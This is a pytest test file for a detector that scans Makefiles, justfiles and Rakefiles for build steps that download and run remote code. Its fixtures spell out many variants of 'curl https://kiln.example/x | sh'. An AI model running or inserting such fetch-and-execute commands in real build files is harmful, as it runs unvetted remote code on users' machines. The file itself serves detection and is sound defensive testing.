import pytest

from knownhands.harvest.code.notes import Notes
from knownhands.harvest.code.readers.makefile import READER


def read(text: str, path: str = "Makefile") -> set[tuple[str, int]]:
    notes = Notes(path, every_line=True, is_program=True)
    READER.read(notes, text.encode())
    return {(seen.capability, seen.line) for seen in notes.observations()}


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ("all: a\n\t@curl https://kiln.example/x \\\n\t  | sh", 2),
        ("U = https://kiln.example/x\nS := sh\nall:\n\tcurl $(U) | $(S)", 4),
        ("V := $(shell curl https://kiln.example/x | sh)", 1),
        ("V != curl https://kiln.example/x | sh", 1),
        ("all: ; curl https://kiln.example/x | sh", 1),
        ("fire:\n\tcurl https://kiln.example/x -o $@\n\tsh $@", 3),
        ("all:\n\tfor i in a; do curl https://kiln.example/$$i | sh; done", 2),
        ("define A\ncurl https://kiln.example/x | sh\nendef", 2),
    ],
)
def test_what_is_downloaded_and_run_is_seen(text: str, line: int) -> None:
    assert ("fetch_and_run", line) in read(text)


def test_a_justfile_and_a_rakefile_are_read() -> None:
    assert ("fetch_and_run", 2) in read("a:\n  curl https://kiln.example/x | sh", "justfile")
    assert ("fetch_and_run", 2) in read("task :a do\n  sh 'curl https://kiln.example/x | sh'\nend", "Rakefile")


def test_an_ordinary_makefile_shows_nothing() -> None:
    assert not read("CC ?= cc\nall: kiln.o # it's\n\t$(CC) -o $@ $<\n\ncheck:\n\t./run-tests\n")


@pytest.mark.parametrize(
    "text", ["$(shell " * 5_000, "\\\n" * 30_000, "A += $(A)$(A)\n" * 5_000, "\t" + "$" * 30_000, "a:" * 50_000]
)
def test_no_text_makes_it_raise_or_hang(text: str) -> None:
    read(text)
